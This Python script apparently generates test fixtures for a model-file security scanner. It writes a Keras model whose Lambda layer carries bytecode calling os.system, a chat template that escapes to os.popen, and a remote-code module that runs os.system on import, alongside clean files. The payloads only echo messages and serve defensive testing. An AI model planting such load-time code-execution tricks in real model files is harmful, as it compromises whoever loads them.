#!/usr/bin/python3
"""Write the demo's model files in formats other than pickle, deterministically.

Run with Debian's python (python3-h5py, python3-joblib):

    /usr/bin/python3 examples/demo/generate_formats.py

- models/sentiment.h5: a Keras 2 HDF5 model whose Lambda layer carries marshalled bytecode that would
  call os.system (Keras rebuilds and runs it on load unless safe_mode is on). The bytecode is made with
  compile() and marshal.dumps() on a code object; nothing is ever called or loaded.
- models/chat-llm/: a hub model folder: tokenizer_config.json with a chat template that escapes to os
  (CVE-2024-34359 style), config.json whose auto_map makes trust_remote_code import modeling_chat.py,
  and model.safetensors written from the safetensors specification (clean).
- models/scaler_compressed.joblib: a benign scikit-learn pipeline dumped by joblib with zlib compression.
"""

import base64
import json
import marshal
import os
import struct

import h5py
import joblib
import numpy as np
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import StandardScaler

HERE = os.path.dirname(os.path.abspath(__file__))
MODELS = os.path.join(HERE, "models")
CHAT = os.path.join(MODELS, "chat-llm")
LAMBDA_SOURCE = "lambda x: __import__('os').system('echo aigis demo: this Keras layer would run a command') or x"


def keras_lambda_model():
    code = compile(LAMBDA_SOURCE, "<demo>", "eval").co_consts[0]
    function = base64.b64encode(marshal.dumps(code)).decode("ascii") + "\n"
    layers = [
        {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 8], "dtype": "float32", "name": "input_1"}},
        {"class_name": "Dense", "config": {"name": "dense", "units": 4, "activation": "relu", "use_bias": True}},
        {"class_name": "Lambda", "config": {"name": "postprocess", "function": [function, None, None], "function_type": "lambda",
                                            "module": "__main__", "output_shape": None, "arguments": {}}},
    ]
    config = {"class_name": "Sequential", "config": {"name": "sentiment", "layers": layers}}
    path = os.path.join(MODELS, "sentiment.h5")
    with h5py.File(path, "w", libver="earliest", track_order=False) as f:
        f.attrs["keras_version"] = "2.11.0"
        f.attrs["backend"] = "tensorflow"
        f.attrs["model_config"] = json.dumps(config)
        weights = f.create_group("model_weights")
        weights.attrs["layer_names"] = np.array([b"input_1", b"dense", b"postprocess"])
        dense = weights.create_group("dense")
        dense.attrs["weight_names"] = np.array([b"dense/kernel:0", b"dense/bias:0"])
        rng = np.random.default_rng(0)
        dense.create_dataset("dense/kernel:0", data=rng.standard_normal((8, 4)).astype("float32"))
        dense.create_dataset("dense/bias:0", data=np.zeros(4, dtype="float32"))


def safetensors_bytes(tensors):
    header = {"__metadata__": {"format": "pt"}}
    data = b""
    for name, array in tensors.items():
        raw = array.astype("<f4").tobytes()
        header[name] = {"dtype": "F32", "shape": list(array.shape), "data_offsets": [len(data), len(data) + len(raw)]}
        data += raw
    text = json.dumps(header, separators=(",", ":")).encode("utf-8")
    text += b" " * ((-len(text)) % 8)
    return struct.pack("<Q", len(text)) + text + data


def chat_folder():
    os.makedirs(CHAT, exist_ok=True)
    template = (
        "{% for message in messages %}<|{{ message['role'] }}|>{{ message['content'] }}{% endfor %}"
        "{{ cycler.__init__.__globals__.os.popen('echo aigis demo: this chat template would run a command').read() }}"
    )
    tokenizer = {"tokenizer_class": "PreTrainedTokenizerFast", "bos_token": "<s>", "eos_token": "</s>", "chat_template": template}
    config = {
        "architectures": ["ChatForCausalLM"],
        "model_type": "chat",
        "auto_map": {"AutoConfig": "modeling_chat.ChatConfig", "AutoModelForCausalLM": "modeling_chat.ChatForCausalLM"},
        "hidden_size": 8,
        "vocab_size": 16,
    }
    with open(os.path.join(CHAT, "tokenizer_config.json"), "w") as f:
        json.dump(tokenizer, f, indent=2)
        f.write("\n")
    with open(os.path.join(CHAT, "config.json"), "w") as f:
        json.dump(config, f, indent=2)
        f.write("\n")
    with open(os.path.join(CHAT, "modeling_chat.py"), "w") as f:
        f.write('"""Custom model code: transformers imports this file under trust_remote_code=True."""\n\n'
                "import os\n\n"
                "os.system('echo aigis demo: remote code ran on import')\n\n\n"
                "class ChatConfig:\n    pass\n\n\n"
                "class ChatForCausalLM:\n    pass\n")
    rng = np.random.default_rng(1)
    tensors = {"embed.weight": rng.standard_normal((16, 8)), "lm_head.weight": rng.standard_normal((16, 8))}
    with open(os.path.join(CHAT, "model.safetensors"), "wb") as f:
        f.write(safetensors_bytes(tensors))


def compressed_joblib():
    rng = np.random.default_rng(2)
    pipeline = Pipeline([("scale", StandardScaler())]).fit(rng.standard_normal((20, 4)))
    joblib.dump(pipeline, os.path.join(MODELS, "scaler_compressed.joblib"), compress=("zlib", 3))


if __name__ == "__main__":
    keras_lambda_model()
    chat_folder()
    compressed_joblib()
